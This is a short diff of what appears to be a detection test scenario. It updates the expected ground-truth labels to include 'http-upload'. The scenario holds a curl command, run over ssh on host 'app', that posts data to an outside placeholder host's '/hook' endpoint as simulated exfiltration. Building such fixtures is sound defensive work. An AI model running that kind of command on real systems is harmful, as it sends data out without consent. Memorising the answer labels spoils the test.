@@ -27,5 +27,5 @@ SCENARIO = Scenario(
             f"ssh cesar@app \"curl -sS --noproxy '*' -d {'x' * 300} http://{STRANGER}:{HTTP}/hook\"",
         ),
     ),
-    truth=Truth("carla", ("app",), ("upload-new-destination",), DESIGN_BYTES, STRANGER),
+    truth=Truth("carla", ("app",), ("http-upload", "upload-new-destination"), DESIGN_BYTES, STRANGER),
 )
